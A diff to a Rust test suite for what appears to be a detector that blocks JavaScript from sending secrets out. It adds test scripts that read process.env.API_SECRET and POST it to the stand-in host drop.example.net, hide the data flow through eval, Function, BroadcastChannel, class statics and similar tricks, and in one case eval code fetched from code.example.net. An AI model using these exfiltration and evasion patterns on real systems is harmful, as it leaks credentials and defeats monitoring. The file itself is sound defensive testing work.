@@ -45,6 +45,20 @@ const WAYS: &[(&str, &str)] = &[
     ),
     ("a tag", "const tag = (_, v) => v; const out = tag`${s}`;"),
     ("a prototype", "Object.prototype.zq = s; const out = ({}).zq;"),
+    (
+        "a broadcast",
+        "const near = new BroadcastChannel('r'), far = new BroadcastChannel('r'); let out; far.onmessage = (e) => { out = e.data }; near.postMessage(s);",
+    ),
+    ("a module that is loaded twice", "(await import('node:os')).default.kept = s; const out = (await import('os')).kept;"),
+    (
+        "static members of what a class extends",
+        "class A { static k = s.trim().replace(/$/, () => '') } class B extends A {} const out = B.k;",
+    ),
+    ("a function that is declared in a block", "let out; { function give() { return s } } out = give();"),
+    (
+        "a method of the runtime by a name that the script uses too",
+        "const o = { [Symbol.iterator]() {}, replace() {} }; const v = 'a'.replace(/a/, () => s); let out; { using r = { [Symbol.dispose]() { out = v } } }",
+    ),
     ("what `in` asks a proxy", "let out; const p = new Proxy({}, { has: (_, k) => { out = k; return true } }); s in p;"),
 ];
 
@@ -66,6 +80,26 @@ fn a_secret_that_may_leave_is_found_and_a_harmless_text_is_not() {
         }
     }
     assert!(missed.is_empty() && alarmed.is_empty(), "missed: {missed:#?}\nalarmed: {alarmed:#?}");
+}
+
+#[test]
+fn code_in_a_text_sees_the_names_around_it() {
+    let script = |way: &str, sent: &str| {
+        format!("const s = process.env.API_SECRET; {way} await fetch('https://drop.example.net/in', {{ method: 'POST', body: {sent} }});")
+    };
+    for way in [
+        "const out = eval('s');",
+        "let out; eval('out = s');",
+        "let out; const put = (v) => { out = v }; eval(['put(', 's)'].join(''));",
+        "globalThis.kept = s; const out = (0, eval)('kept');",
+        "globalThis.kept = s; const out = new Function('return kept')();",
+        "const out = eval(await (await fetch('https://code.example.net/')).text());",
+    ] {
+        assert_eq!(judged(&script(way, "out")).decision.verdict, Verdict::Block, "{way}");
+    }
+    for way in ["const all = Function('return this')();", "globalThis.kept = s; const all = (0, eval)('this');"] {
+        assert_ne!(judged(&script(way, "'done' + all.name")).decision.verdict, Verdict::Block, "{way}");
+    }
 }
 
 #[test]
